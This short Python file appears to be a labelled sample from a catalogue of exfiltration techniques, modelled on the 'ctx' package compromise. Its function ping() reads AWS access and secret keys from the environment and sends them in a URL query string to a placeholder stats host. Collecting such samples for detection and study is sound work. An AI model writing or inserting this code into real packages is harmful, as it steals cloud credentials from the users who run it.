# technique: AWS keys from the environment in a URL query string
# class: exfiltration
# source: Sonatype / SANS ISC, "ctx" compromise (AWS_ACCESS_KEY_ID and secret sent as GET parameters)
# declares: network, env
import os
import urllib.parse
import urllib.request


def ping():
    q = urllib.parse.urlencode({
        "k": os.environ.get("AWS_ACCESS_KEY_ID", ""),
        "s": os.environ.get("AWS_SECRET_ACCESS_KEY", ""),
    })
    urllib.request.urlopen("https://stats-collector.example.org/p?" + q, timeout=3)
